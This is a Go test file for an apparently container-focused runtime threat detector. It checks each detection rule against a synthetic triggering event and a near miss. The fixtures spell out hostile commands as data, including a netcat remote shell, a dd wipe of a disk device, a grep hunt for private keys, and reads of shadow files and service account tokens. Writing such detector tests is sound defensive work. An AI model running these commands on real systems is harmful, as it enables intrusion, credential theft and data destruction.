package engine

import (
	"net/netip"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/podguard/podguard/daemon/catalog"
	"github.com/podguard/podguard/daemon/rulesets"
	"github.com/podguard/podguard/daemon/workload"
	"github.com/podguard/podguard/probes"
)

// fakeResolver places every cgroup in one pod; the engine's pure logic is
// under test here, the real resolver has its own tests.
type fakeResolver struct{ initPID uint32 }

func (f fakeResolver) Resolve(cg uint64, pid uint32) workload.Identity {
	if cg == 0 {
		return workload.Identity{Kind: workload.KindHost}
	}
	return workload.Identity{Kind: workload.KindWorkload,
		Container: workload.Container{ID: "c1", Name: "app", CgroupID: cg, InitPID: f.initPID},
		Pod:       workload.Pod{Name: "web", Namespace: "default", UID: "uid-1", Labels: map[string]string{"app": "php"}}}
}

const cg = 4242

func allRules(m catalog.Mitigation) *rulesets.Snapshot {
	rs := &rulesets.Ruleset{Name: "all", Rules: map[string]catalog.Mitigation{}}
	for _, id := range catalog.IDs() {
		rs.Rules[id] = m
	}
	return &rulesets.Snapshot{Generation: 1, Rulesets: []*rulesets.Ruleset{rs}}
}

// world is an engine with a container whose entrypoint (pid 100, a shell
// script) runs; tests add processes and events to it.
type world struct {
	t *testing.T
	e *Engine
	// tree is the kernel's process tree as /proc would show it: what the
	// engine learns from when its table does not know a process.
	tree map[uint32]fakeProc
}

type fakeProc struct {
	ppid   uint32
	start  uint64 // clock ticks; podguard started at 1000
	comm   string
	cgroup string
	exe    string
}

func newWorld(t *testing.T) *world {
	e := New(fakeResolver{initPID: 100}, Self{PID: 7, Paths: []string{"/etc/podguard", "/var/lib/podguard", "/usr/bin/podguard"}})
	e.SetRules(allRules(catalog.Log))
	w := &world{t: t, e: e, tree: map[uint32]fakeProc{}}
	pt := e.procs
	pt.started = 1000
	pt.alive = func(pid uint32) bool { _, ok := w.tree[pid]; return ok }
	pt.stat = func(pid uint32) (procStat, bool) {
		p, ok := w.tree[pid]
		return procStat{ppid: p.ppid, start: p.start, comm: p.comm}, ok
	}
	pt.cgroupOf = func(pid uint32) string { return w.tree[pid].cgroup }
	pt.exeOf = func(pid uint32) string { return w.tree[pid].exe }
	pt.argsOf = func(pid uint32) []string { return nil }
	w.handle(exec(100, 50, "/bin/sh", "sh", "/entrypoint.sh"))
	return w
}

func (w *world) handle(ev *probes.Record) []string {
	var ids []string
	for _, m := range w.e.Handle(ev, nil) {
		ids = append(ids, m.Rule.ID)
	}
	sort.Strings(ids)
	checkOpenFilter(w, ev, ids)
	return ids
}

func exec(pid, ppid uint32, exe string, args ...string) *probes.Record {
	return &probes.Record{Kind: probes.KindExec, PID: pid, TGID: pid, PPID: ppid, CgroupID: cg, Exe: exe, Filename: exe, Args: args, Comm: base(exe), UID: 0, Origin: probes.OriginImage}
}

func withComm(ev *probes.Record, comm string) *probes.Record { ev.Comm = comm; return ev }
func withOrigin(ev *probes.Record, o probes.Origin) *probes.Record {
	ev.Origin = o
	return ev
}
func withFlags(ev *probes.Record, f probes.Flags) *probes.Record {
	ev.Flags |= f
	return ev
}

func ev(kind probes.Kind, pid uint32, fill func(*probes.Record)) *probes.Record {
	e := &probes.Record{Kind: kind, PID: pid, TGID: pid, PPID: 100, CgroupID: cg, Comm: "sh", UID: 0}
	fill(e)
	return e
}

func open(pid uint32, path string, flags, mode uint32) *probes.Record {
	return ev(probes.KindOpen, pid, func(e *probes.Record) { e.Path, e.FileFlags, e.Mode = path, flags, mode })
}

// forkShell makes pid a child of the entrypoint running exe (from the
// image), so its events are judged.
func (w *world) child(pid uint32, exe string, args ...string) {
	w.handle(&probes.Record{Kind: probes.KindFork, PID: 100, TGID: 100, CgroupID: cg, ChildPID: pid})
	w.handle(exec(pid, 100, exe, args...))
}

func TestEveryRuleHasACondition(t *testing.T) {
	for _, id := range catalog.IDs() {
		if d := managed.defs[id]; d == nil || d.cond == nil {
			t.Errorf("rule %s has no condition", id)
		}
	}
	for id := range managed.defs {
		if _, ok := catalog.Lookup(id); !ok {
			t.Errorf("condition for unknown rule %s", id)
		}
	}
}

// TestRules gives each rule an event that must trigger exactly it (among
// others the same event rightly triggers) and a near miss that must not.
func TestRules(t *testing.T) {
	type step func(w *world) []string
	cases := []struct {
		rule       string
		hit, miss  step
		alsoOnHits []string
	}{
		{"terminal-shell-in-container",
			func(w *world) []string {
				return w.handle(withFlags(exec(200, 9000, "/bin/bash", "bash"), probes.FlagTTY))
			},
			func(w *world) []string {
				return w.handle(withFlags(exec(100, 50, "/bin/bash", "bash"), probes.FlagTTY))
			}, nil},
		{"shell-spawned-by-server",
			func(w *world) []string {
				w.child(200, "/usr/sbin/nginx", "nginx")
				w.handle(&probes.Record{Kind: probes.KindFork, TGID: 200, CgroupID: cg, ChildPID: 201})
				return w.handle(exec(201, 200, "/bin/sh", "sh", "-c", "id"))
			},
			func(w *world) []string { return w.handle(exec(201, 100, "/bin/sh", "sh", "-c", "date")) }, nil},
		{"reverse-shell",
			func(w *world) []string {
				w.child(200, "/usr/bin/python3", "python3")
				return w.handle(withFlags(ev(probes.KindDup, 200, func(e *probes.Record) { e.OldFD, e.NewFD = 3, 0 }), probes.FlagInetStdio|probes.FlagOldSocket))
			},
			func(w *world) []string {
				w.child(200, "/usr/sbin/httpd", "httpd") // inetd-style server: accepted socket on stdio
				return w.handle(withFlags(withComm(ev(probes.KindDup, 200, func(e *probes.Record) { e.OldFD, e.NewFD = 3, 0 }), "httpd"), probes.FlagInetStdio|probes.FlagOldSocket))
			}, nil},
		{"netcat-remote-exec",
			func(w *world) []string {
				return w.handle(exec(200, 100, "/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "10.0.0.1", "4444")) }, nil},
		{"exec-from-tmp",
			func(w *world) []string { return w.handle(exec(200, 100, "/tmp/x", "x")) },
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/tmpwatch", "tmpwatch")) }, nil},
		{"container-client-tool",
			func(w *world) []string {
				return w.handle(exec(200, 100, "/usr/local/bin/kubectl", "kubectl", "get", "pods"))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/kubectx", "kubectx")) }, nil},
		{"container-drift",
			func(w *world) []string {
				return w.handle(withOrigin(exec(200, 100, "/app/payload", "payload"), probes.OriginUpper))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/app/payload", "payload")) }, nil},
		{"new-executable-in-container",
			func(w *world) []string { return w.handle(open(100, "/app/x", 0x41, 0o755)) },
			func(w *world) []string { return w.handle(open(100, "/app/x", 0x41, 0o644)) }, nil},
		{"package-manager-in-container",
			func(w *world) []string { return w.handle(exec(200, 100, "/sbin/apk", "apk", "add", "nmap")) },
			func(w *world) []string { return w.handle(exec(200, 100, "/sbin/apkx", "apkx")) }, nil},
		{"downloader-in-container",
			func(w *world) []string {
				return w.handle(exec(200, 100, "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://e"))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/curl", "curl", "http://e")) }, nil},
		{"outbound-nonstandard-port-from-shell",
			func(w *world) []string {
				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Record) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.1.2.3"), 4444 }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Record) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.1.2.3"), 443 }))
			}, nil},
		{"fileless-exec-memfd",
			func(w *world) []string {
				return w.handle(withOrigin(exec(200, 100, "/memfd:x (deleted)", "x"), probes.OriginMemfd))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/memfd-tool", "memfd-tool")) }, []string{"container-drift"}},
		{"loader-runs-program",
			func(w *world) []string {
				return w.handle(exec(200, 100, "/lib/ld-musl-x86_64.so.1", "/lib/ld-musl-x86_64.so.1", "/usr/bin/id"))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/ldd", "ldd", "/usr/bin/id")) }, nil},
		{"ptrace-injection",
			func(w *world) []string {
				return w.handle(ev(probes.KindPtrace, 100, func(e *probes.Record) { e.Request, e.TargetPID = ptraceAttach, 300 }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindPtrace, 100, func(e *probes.Record) { e.Request, e.TargetPID = 0 /* TRACEME */, 0 }))
			}, nil},
		{"proc-mem-access",
			func(w *world) []string { return w.handle(open(100, "/proc/1/mem", 0, 0)) },
			func(w *world) []string { return w.handle(open(100, "/proc/self/mem", 0, 0)) }, nil},
		{"bpf-program-load",
			func(w *world) []string {
				return w.handle(ev(probes.KindBPF, 100, func(e *probes.Record) { e.Cmd = bpfProgLoad }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindBPF, 100, func(e *probes.Record) { e.Cmd = 0 /* MAP_CREATE */ }))
			}, nil},
		{"clear-logs",
			func(w *world) []string { return w.handle(open(100, "/var/log/auth.log", 0x201, 0)) },
			func(w *world) []string { return w.handle(open(100, "/var/log/auth.log", 0x401, 0)) }, nil},
		{"clear-history",
			func(w *world) []string {
				return w.handle(ev(probes.KindUnlink, 100, func(e *probes.Record) { e.Path = "/root/.bash_history" }))
			},
			func(w *world) []string { return w.handle(open(100, "/root/.bash_history", 0, 0)) }, nil},
		{"dynamic-linker-hijack",
			func(w *world) []string { return w.handle(open(100, "/etc/ld.so.preload", 0x241, 0o644)) },
			func(w *world) []string { return w.handle(open(100, "/etc/ld.so.preload", 0, 0)) }, []string{"write-below-etc"}},
		{"shadow-file-read",
			func(w *world) []string { return w.handle(open(100, "/etc/shadow", 0, 0)) },
			func(w *world) []string { return w.handle(open(100, "/etc/passwd", 0, 0)) }, nil},
		{"service-account-token-read",
			func(w *world) []string {
				w.child(200, "/bin/cat", "cat")
				return w.handle(open(200, "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_29/token", 0, 0))
			},
			func(w *world) []string {
				w.child(200, "/app/server", "server")
				return w.handle(open(200, "/var/run/secrets/kubernetes.io/serviceaccount/token", 0, 0))
			}, nil},
		{"private-key-read",
			func(w *world) []string { return w.handle(open(100, "/root/.ssh/id_ed25519", 0, 0)) },
			func(w *world) []string { return w.handle(open(100, "/root/.ssh/id_ed25519.pub", 0, 0)) }, nil},
		{"proc-environ-read",
			func(w *world) []string {
				self := open(100, "/proc/1/environ", 0, 0)
				self.RawPath = "/proc/self/../1/environ" // cleaned, it names pid 1
				return w.handle(self)
			},
			func(w *world) []string {
				// /proc/self resolved by the kernel to the caller's pid in
				// its namespace, which the table may not know yet
				self := open(100, "/proc/77/environ", 0, 0)
				self.RawPath = "/proc/self/environ"
				return append(w.handle(open(100, "/proc/100/environ", 0, 0)), w.handle(self)...)
			}, nil},
		{"sensitive-file-linked",
			func(w *world) []string {
				return w.handle(ev(probes.KindLink, 100, func(e *probes.Record) { e.Path, e.Path2 = "/etc/shadow", "/tmp/notes" }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindSymlink, 100, func(e *probes.Record) { e.Path, e.Path2 = "/etc/passwd", "/tmp/shadow" }))
			}, nil},
		{"credential-search",
			func(w *world) []string {
				return w.handle(exec(200, 100, "/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE KEY", "/"))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/bin/grep", "grep", "-r", "TODO", "/src")) }, nil},
		{"cloud-metadata-access",
			func(w *world) []string {
				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Record) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("169.254.169.254"), 80 }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Record) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("169.254.169.253"), 80 }))
			}, nil},
		{"container-runtime-socket",
			func(w *world) []string {
				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Record) { e.Family, e.UnixPath = afUnix, "/host/run/containerd/containerd.sock" }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindConnect, 100, func(e *probes.Record) { e.Family, e.UnixPath = afUnix, "/run/app.sock" }))
			}, nil},
		{"packet-capture",
			func(w *world) []string {
				return w.handle(ev(probes.KindSocket, 100, func(e *probes.Record) { e.Family, e.SockType = afPacket, sockRaw }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindSocket, 100, func(e *probes.Record) { e.Family, e.SockType = afInet, 1 }))
			}, nil},
		{"network-scanner",
			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "-zv", "10.0.0.1", "1-1024")) },
			func(w *world) []string { return w.handle(exec(200, 100, "/bin/nc", "nc", "-v", "10.0.0.1", "80")) }, nil},
		{"ssh-client-in-container",
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/ssh", "ssh", "root@10.0.0.2")) },
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/ssh-keygen", "ssh-keygen")) }, nil},
		{"kernel-module-load",
			func(w *world) []string {
				return w.handle(ev(probes.KindModule, 100, func(e *probes.Record) { e.ModuleFD = 3 }))
			},
			func(w *world) []string { return w.handle(open(100, "/lib/modules/x.ko", 0, 0)) }, nil},
		{"write-below-binary-dir",
			func(w *world) []string { return w.handle(open(100, "/usr/bin/ls", 0x241, 0o644)) },
			func(w *world) []string {
				w.child(200, "/sbin/apk", "apk", "add", "curl")
				return w.handle(open(200, "/usr/bin/curl", 0x241, 0o644))
			}, nil},
		{"write-below-etc",
			func(w *world) []string { return w.handle(open(100, "/etc/nginx/nginx.conf", 0x241, 0o644)) },
			func(w *world) []string { return w.handle(open(100, "/etc/resolv.conf", 0x241, 0o644)) }, nil},
		{"account-manipulation",
			func(w *world) []string { return w.handle(open(100, "/etc/passwd", 0x401, 0)) },
			func(w *world) []string { return w.handle(open(100, "/etc/passwd", 0, 0)) }, []string{"write-below-etc"}},
		{"shell-profile-persistence",
			func(w *world) []string { return w.handle(open(100, "/root/.bashrc", 0x441, 0o644)) },
			func(w *world) []string { return w.handle(open(100, "/root/.bashrc", 0, 0)) }, nil},
		{"cron-persistence",
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/crontab", "crontab", "-")) },
			func(w *world) []string { return w.handle(open(100, "/etc/crontab", 0, 0)) }, nil},
		{"ssh-authorized-keys-change",
			func(w *world) []string { return w.handle(open(100, "/root/.ssh/authorized_keys", 0x441, 0o600)) },
			func(w *world) []string { return w.handle(open(100, "/root/.ssh/authorized_keys", 0, 0)) }, nil},
		{"init-persistence",
			func(w *world) []string { return w.handle(open(100, "/etc/systemd/system/evil.service", 0x241, 0o644)) },
			func(w *world) []string { return w.handle(open(100, "/etc/systemd/system/evil.service", 0, 0)) }, []string{"write-below-etc"}},
		{"namespace-escape",
			func(w *world) []string {
				return w.handle(ev(probes.KindUnshare, 100, func(e *probes.Record) { e.NSFlags = cloneNewUser | cloneNewNS }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindUnshare, 100, func(e *probes.Record) { e.NSFlags = 0x400 /* CLONE_FILES */ }))
			}, nil},
		{"cgroup-release-agent",
			func(w *world) []string { return w.handle(open(100, "/tmp/cg/release_agent", 0x1, 0)) },
			func(w *world) []string { return w.handle(open(100, "/tmp/cg/release_agent", 0, 0)) }, nil},
		{"kernel-hook-tamper",
			func(w *world) []string { return w.handle(open(100, "/proc/sys/kernel/core_pattern", 0x1, 0)) },
			func(w *world) []string { return w.handle(open(100, "/proc/sys/kernel/core_pattern", 0, 0)) }, nil},
		{"mount-in-container",
			func(w *world) []string {
				return w.handle(ev(probes.KindMount, 100, func(e *probes.Record) { e.Source, e.Target, e.FSType = "/dev/vda", "/mnt", "ext4" }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindMount, 100, func(e *probes.Record) { e.Source, e.Target, e.FSType = "tmpfs", "/mnt", "tmpfs" }))
			}, nil},
		{"device-node-created", // routes_test.go has the variants
			func(w *world) []string { return w.handle(mknod(100, "/tmp/sda", sIFBLK|0o600, 8, 0)) },
			func(w *world) []string { return w.handle(mknod(100, "/tmp/fifo", 0o010600, 0, 0)) }, nil},
		{"io-uring-in-container",
			func(w *world) []string {
				return w.handle(ev(probes.KindIOURing, 100, func(e *probes.Record) { e.Entries = 4 }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindMemfd, 100, func(e *probes.Record) { e.Name = "uring" }))
			}, nil},
		{"host-device-access",
			func(w *world) []string { return w.handle(open(100, "/dev/vda", 0, 0)) },
			func(w *world) []string { return w.handle(open(100, "/dev/null", 0x1, 0)) }, nil},
		{"runtime-binary-overwrite",
			func(w *world) []string { return w.handle(open(100, "/proc/self/exe", 0x1, 0)) },
			func(w *world) []string { return w.handle(open(100, "/proc/self/exe", 0, 0)) }, nil},
		{"privilege-raise-to-root",
			func(w *world) []string {
				return w.handle(ev(probes.KindSetID, 100, func(e *probes.Record) { e.UID, e.IDs = 1000, [3]int32{0, -1, -1} }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindSetID, 100, func(e *probes.Record) { e.UID, e.IDs = 0, [3]int32{1000, -1, -1} }))
			}, nil},
		{"setuid-bit-set",
			func(w *world) []string {
				return w.handle(ev(probes.KindChmod, 100, func(e *probes.Record) { e.Path, e.Mode = "/app/sh", 0o4755 }))
			},
			func(w *world) []string {
				return w.handle(ev(probes.KindChmod, 100, func(e *probes.Record) { e.Path, e.Mode = "/app/data", 0o644 }))
			}, []string{"new-executable-in-container"}},
		{"sudo-in-container",
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/sudo", "sudo", "id")) },
			func(w *world) []string { return w.handle(exec(200, 100, "/usr/bin/id", "id")) }, nil},
		{"crypto-miner",
			func(w *world) []string {
				return w.handle(exec(200, 100, "/app/kworker", "kworker", "-o", "stratum+tcp://pool:3333", "-u", "x"))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/app/kworker", "kworker", "-o", "out.txt")) }, nil},
		{"mining-pool-connection",
			func(w *world) []string {
				w.child(200, "/app/server", "server")
				return w.handle(ev(probes.KindConnect, 200, func(e *probes.Record) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("8.8.4.4"), 3333 }))
			},
			func(w *world) []string {
				w.child(200, "/app/server", "server")
				return w.handle(ev(probes.KindConnect, 200, func(e *probes.Record) { e.Family, e.Addr, e.Port = afInet, netip.MustParseAddr("10.0.0.5"), 3333 }))
			}, nil},
		{"data-destruction",
			func(w *world) []string {
				return w.handle(exec(200, 100, "/bin/dd", "dd", "if=/dev/zero", "of=/dev/vda"))
			},
			func(w *world) []string { return w.handle(exec(200, 100, "/bin/dd", "dd", "if=/dev/zero", "of=/tmp/f")) }, nil},
		{"podguard-tamper",
			func(w *world) []string {
				return append(w.handle(open(100, "/host/etc/podguard/rules.d/x.toml", 0x241, 0o644)),
					w.handle(exec(201, 100, "/sbin/tc", "tc", "filter", "del", "dev", "veth1", "ingress"))...)
			},
			func(w *world) []string {
				return append(w.handle(open(100, "/host/etc/podguard/rules.d/x.toml", 0, 0)),
					w.handle(exec(201, 100, "/sbin/tc", "tc", "filter", "show", "dev", "veth1", "ingress"))...)
			}, []string{"podguard-tamper"}}, // the file write and the tc command each raise it
		{catalog.EventsLost,
			func(w *world) []string {
				return w.handle(&probes.Record{Kind: probes.KindEventsLost, CgroupID: cg,
					Lost: []probes.Loss{{Kind: probes.KindOpen, Reason: probes.LossRateLimited, Count: 3000}}})
			},
			func(w *world) []string { return w.handle(&probes.Record{Kind: probes.KindEventsLost, CgroupID: cg}) }, nil},
		{"kubernetes-api-contact", nil, nil, nil}, // needs a real init process environment: tested end to end
	}
	covered := map[string]bool{}
	for _, c := range cases {
		covered[c.rule] = true
		if c.hit == nil {
			continue
		}
		t.Run(c.rule, func(t *testing.T) {
			got := c.hit(newWorld(t))
			want := append([]string{c.rule}, c.alsoOnHits...)
			sort.Strings(want)
			if strings.Join(got, ",") != strings.Join(want, ",") {
				t.Errorf("hit: rules %v, want %v", got, want)
			}
			for _, id := range c.miss(newWorld(t)) {
				if id == c.rule {
					t.Errorf("near miss triggered %s", id)
				}
			}
		})
	}
	for _, id := range catalog.IDs() {
		if !covered[id] {
			t.Errorf("rule %s has no case in TestRules", id)
		}
	}
}

func TestRuntimeInitIsNotJudged(t *testing.T) {
	w := newWorld(t)
	// runc:[2:INIT] of a new exec session mounting and calling setns before
	// it executes the user's command: not an attack.
	if got := w.handle(ev(probes.KindSetns, 555, func(e *probes.Record) { e.PPID = 9000; e.Comm = "runc:[2:INIT]" })); len(got) != 0 {
		t.Fatalf("runtime init judged: %v", got)
	}
	if got := w.handle(withFlags(exec(555, 9000, "/bin/sh", "sh"), probes.FlagTTY)); strings.Join(got, ",") != "terminal-shell-in-container" {
		t.Fatalf("exec session shell: %v", got)
	}
}

// TestProcessTableAfterRestart: podguard restarted (its table empty)
// while a server ran; the shell the server spawns now is the server's,
// not an exec session, and raises shell-spawned-by-server. A process of
// the workload whose fork was never seen is judged, never taken for the
// runtime.
func TestProcessTableAfterRestart(t *testing.T) {
	w := newWorld(t)
	w.e.procs = newProcTableLike(w)
	pod := "/kubepods/pod1/c1"
	w.tree[100] = fakeProc{ppid: 50, start: 10, comm: "sh", cgroup: pod, exe: "/bin/sh"}
	w.tree[50] = fakeProc{ppid: 1, start: 5, comm: "containerd-shim", cgroup: "/system"}
	w.tree[300] = fakeProc{ppid: 100, start: 20, comm: "httpd", cgroup: pod, exe: "/usr/sbin/httpd"}
	w.tree[301] = fakeProc{ppid: 300, start: 2000, comm: "sh", cgroup: pod, exe: "/bin/sh"}
	if got := w.handle(exec(301, 300, "/bin/sh", "sh", "-c", "id")); strings.Join(got, ",") != "shell-spawned-by-server" {
		t.Errorf("shell of a server that predates podguard: %v", got)
	}
	// a process forked by the server whose fork event was lost
	w.tree[302] = fakeProc{ppid: 300, start: 2001, comm: "cat", cgroup: pod, exe: "/bin/cat"}
	if got := w.handle(open(302, "/etc/shadow", 0, 0)); strings.Join(got, ",") != "shadow-file-read" {
		t.Errorf("a workload process the table did not know: %v", got)
	}
	// an exec session's runc init entering from outside, before its exec
	w.tree[400] = fakeProc{ppid: 60, start: 3000, comm: "runc:[2:INIT]", cgroup: pod}
	w.tree[60] = fakeProc{ppid: 1, start: 2999, comm: "runc", cgroup: "/system"}
	if got := w.handle(ev(probes.KindSetns, 400, func(e *probes.Record) { e.PPID = 60 })); len(got) != 0 {
		t.Errorf("the runtime's init judged: %v", got)
	}
}

// TestProcessTableFull: a pod that creates more processes than the table
// holds cannot make the table forget a live process (whose events would
// then be taken for the runtime's); gone processes make room.
func TestProcessTableFull(t *testing.T) {
	w := newWorld(t)
	w.e.procs = newProcTableLike(w)
	w.e.procs.max = 8
	pod := "/kubepods/pod1/c1"
	w.tree[100] = fakeProc{ppid: 50, start: 10, comm: "sh", cgroup: pod, exe: "/bin/sh"}
	w.tree[50] = fakeProc{ppid: 1, start: 5, cgroup: "/system"}
	w.handle(exec(100, 50, "/bin/sh", "sh", "/entrypoint.sh"))
	w.tree[200] = fakeProc{ppid: 100, start: 2000, comm: "app", cgroup: pod, exe: "/app"}
	w.handle(exec(200, 100, "/app", "app"))
	for pid := uint32(1000); pid < 1100; pid++ { // a fork flood, all alive
		w.tree[pid] = fakeProc{ppid: 100, start: 3000, cgroup: pod}
		w.handle(&probes.Record{Kind: probes.KindFork, PID: 100, TGID: 100, PPID: 50, CgroupID: cg, ChildPID: pid})
	}
	if p := w.e.procs.get(200); p == nil || p.Exe != "/app" {
		t.Fatalf("the long-lived process was forgotten: %+v", p)
	}
	if size, pressure := w.e.ProcStats(); size > 16 || pressure == 0 {
		t.Errorf("table holds %d (max 8, at most 16), pressure %d", size, pressure)
	}
	if got := w.handle(open(200, "/etc/shadow", 0, 0)); strings.Join(got, ",") != "shadow-file-read" {
		t.Errorf("the long-lived process's read after the flood: %v", got)
	}
	// long argv cannot grow the table past its byte bound
	w.e.procs.maxBytes = w.e.procs.bytes + 4096
	long := make([]string, 64)
	for i := range long {
		long[i] = strings.Repeat("x", 1000)
	}
	w.tree[600] = fakeProc{ppid: 100, start: 5000, cgroup: pod}
	before, _ := w.e.ProcStats()
	w.handle(exec(600, 100, "/bin/"+strings.Repeat("y", 2000), long...))
	if after, _ := w.e.ProcStats(); after != before || w.e.procs.bytes > w.e.procs.maxBytes {
		t.Errorf("a process with a 64 KB argv was remembered beyond the byte bound: %d -> %d entries, %d bytes", before, after, w.e.procs.bytes)
	}
	// the flood exits without exit events: its entries make room at the
	// next sweep (at most one a second)
	for pid := uint32(1000); pid < 1100; pid++ {
		delete(w.tree, pid)
	}
	later := time.Now().Add(2 * time.Second)
	w.e.procs.now = func() time.Time { return later }
	w.tree[500] = fakeProc{ppid: 100, start: 4000, cgroup: pod}
	w.handle(&probes.Record{Kind: probes.KindFork, PID: 100, TGID: 100, PPID: 50, CgroupID: cg, ChildPID: 500})
	if w.e.procs.get(500) == nil {
		t.Error("no room made from gone processes")
	}
}

// newProcTableLike is a fresh table reading the world's process tree.
func newProcTableLike(w *world) *procTable {
	old := w.e.procs
	return &procTable{procs: map[uint32]*Proc{}, started: old.started, alive: old.alive, stat: old.stat,
		cgroupOf: old.cgroupOf, exeOf: old.exeOf, argsOf: old.argsOf, max: old.max, maxBytes: old.maxBytes, now: old.now}
}

func TestSelectionAndWatch(t *testing.T) {
	snap := &rulesets.Snapshot{Generation: 1, Rulesets: []*rulesets.Ruleset{
		{Name: "php", Labels: map[string]string{"app": "php"}, Rules: map[string]catalog.Mitigation{"fileless-exec-memfd": catalog.Terminate, "shadow-file-read": catalog.Log}},
	}}
	kinds, kill := KernelNeeds(snap, map[string]string{"app": "php"}, false)
	if !kinds.Has(probes.KindExec) || !kinds.Has(probes.KindOpen) || kinds.Has(probes.KindConnect) || kill != probes.KillMemfdExec {
		t.Fatalf("kinds %v kill %v", kinds, kill)
	}
	if _, kill := KernelNeeds(snap, map[string]string{"app": "php"}, true); kill != 0 {
		t.Fatalf("dry run must arm no kill: %v", kill)
	}
	if kinds, _ := KernelNeeds(snap, map[string]string{"app": "nginx"}, false); kinds != 0 {
		t.Fatalf("unselected pod: kinds %v", kinds)
	}
	e := New(fakeResolver{initPID: 100}, Self{})
	e.SetRules(snap)
	e.Handle(exec(100, 50, "/bin/sh", "sh"), nil)
	ms := e.Handle(open(100, "/etc/shadow", 0, 0), nil)
	if len(ms) != 1 || ms[0].Verdict.Mitigation != catalog.Log || ms[0].Verdict.Ruleset != "php" || ms[0].Identity.Pod.Name != "web" {
		t.Fatalf("matches %+v", ms)
	}
	if ms := e.Handle(hostEvent(open(100, "/etc/shadow", 0, 0)), nil); len(ms) != 0 {
		t.Fatalf("host event matched: %+v", ms)
	}
}

func hostEvent(e *probes.Record) *probes.Record { e.CgroupID = 0; return e }
